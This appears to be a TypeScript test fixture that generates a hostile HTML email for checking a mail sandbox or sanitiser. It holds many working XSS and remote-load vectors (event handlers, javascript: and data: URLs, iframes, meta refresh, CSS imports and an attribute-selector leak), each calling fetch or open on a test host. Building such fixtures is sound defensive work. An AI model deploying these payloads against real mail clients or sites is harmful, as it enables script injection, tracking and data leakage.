/** What a hostile mail would do if it could run something. */
function payload(host: string, name: string): string {
  return [
    "try{top.pwned='NAME'}catch{}",
    "try{parent.pwned='NAME'}catch{}",
    "window.pwned='NAME'",
    "document.title='pwned'",
    "console.log('pwned NAME')",
    "fetch('HOST/fetch-NAME')",
    "open('HOST/popup-NAME')",
    "alert('NAME')",
  ]
    .join(";")
    .replaceAll("NAME", name)
    .replaceAll("HOST", host);
}

/**
 * HTML with every known way to run something, to load something from a host, to navigate or to open a window. `host` is an
 * origin such as `http://127.0.0.1:4000`; `name` is a host name that nobody may look up.
 */
export function hostileHtml(host: string, name: string): string {
  const run = (way: string): string => payload(host, way).replaceAll('"', "&quot;");
  return `
<script>${payload(host, "script")}</script><SCRIPT\tSRC="${host}/script.js"></SCRIPT><script/src=${host}/slash.js></script>
<scr\0ipt>${payload(host, "nul")}</scr\0ipt><script\0>${payload(host, "nul2")}</script>
<svg onload="${run("svg")}"><script>${payload(host, "svgscript")}</script><image href="${host}/svg.png"/>
<use href="${host}/use.svg#a"/><a href="javascript:${run("svglink")}"><text y="20">svg link</text></a>
<animate onbegin="${run("begin")}" attributeName="x" dur="1s"/><set attributeName="href" to="${host}/set"/>
<foreignObject><iframe src="${host}/foreign"></iframe></foreignObject></svg>
<img src="${host}/pixel.gif" width="1" height="1"><img src=x onerror="${run("onerror")}"><img srcset="${host}/set.png 2x">
<picture><source srcset="${host}/source.png"><img src="${host}/picture.png"></picture><img src="//${name}/pixel.gif">
<body onload="${run("body")}" background="${host}/body.png"><table background="${host}/table.png"><tr><td>x</td></tr></table>
<style>@import url("${host}/import.css");@import "//${name}/import.css";
@font-face{font-family:evil;src:url(${host}/font.woff2)}
body{font-family:evil,sans-serif;background:url(${host}/css.png)}li{list-style:url(${host}/list.png)}
p::before{content:url(${host}/content.png)}a{cursor:url(${host}/cursor.cur),auto}
input[value^="a"]{background:image-set(url(${host}/leak.png) 1x)}</style><ul><li>list</li></ul>
<link rel="stylesheet" href="${host}/style.css"><link rel="preload" as="image" href="${host}/preload.png">
<link rel="prefetch" href="${host}/prefetch"><link rel="dns-prefetch" href="//${name}"><link rel="preconnect" href="//${name}">
<link rel="modulepreload" href="${host}/module.js"><link rel="icon" href="${host}/icon.ico"><link rel="manifest" href="${host}/m.json">
<link rel="prerender" href="${host}/prerender"><script type="speculationrules">{"prefetch":[{"urls":["${host}/speculation"]}]}</script>
<meta http-equiv="refresh" content="0;url=${host}/refresh"><META HTTP-EQUIV=refresh CONTENT="0;url=javascript:${run("meta")}">
<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="${host}/base/" target="_top"><img src="relative.png">
<iframe src="${host}/frame"></iframe><iframe srcdoc="<script>${run("srcdoc")}</script>"></iframe>
<iframe src="javascript:${run("frame")}"></iframe><iframe src="data:text/html,<script>${run("data")}</script>"></iframe>
<object data="${host}/object.swf"></object><embed src="${host}/embed.swf"><applet code="${host}/applet"></applet>
<frameset><frame src="${host}/frameset"></frameset><portal src="${host}/portal"></portal>
<video src="${host}/video.mp4" poster="${host}/poster.png" autoplay onloadstart="${run("video")}"></video>
<audio src="${host}/audio.mp3" autoplay></audio><input type="image" src="${host}/input.png">
<form id="f" action="${host}/form"><input name="q" value="a" autofocus onfocus="${run("focus")}"><button>Send form</button></form>
<button form="f" formaction="javascript:${run("formaction")}">Button</button><isindex action="${host}/isindex">
<details open ontoggle="${run("toggle")}"><summary>more</summary></details><marquee onstart="${run("marquee")}">m</marquee>
<math href="javascript:${run("math")}"><mtext>math</mtext></math><xmp><script>${payload(host, "xmp")}</script></xmp>
<div style="background:url(${host}/inline.png);animation:x 1s" onanimationstart="${run("animation")}">inline</div>
<p>text</p><a href="javascript:${run("link")}">script link</a> <a href="${host}/link">plain link</a>
<a href="${host}/top" target="_top">top link</a> <a href="${host}/parent" target="_parent">parent link</a>
<a href="${host}/blank" target="_blank">blank link</a> <a href="${host}/ping" ping="${host}/pinged">ping link</a>
<a href="${host}/download" download>download link</a> <a href="data:text/html,<script>${run("datalink")}</script>">data link</a>
<a href="//${name}/">name link</a> <a href="/_sandbox/state">sandbox link</a> <a href="/" target="_top">page link</a>
<noscript><p title="</noscript><img src=x onerror=${run("noscript").replaceAll(" ", "")}>"></noscript>
<!-- unclosed <script>${payload(host, "comment")}</script>`;
}

/** The texts of the links in it. */
export const hostileLinks: readonly string[] = [
  "script link",
  "plain link",
  "top link",
  "parent link",
  "blank link",
  "ping link",
  "download link",
  "data link",
  "name link",
  "sandbox link",
  "page link",
];
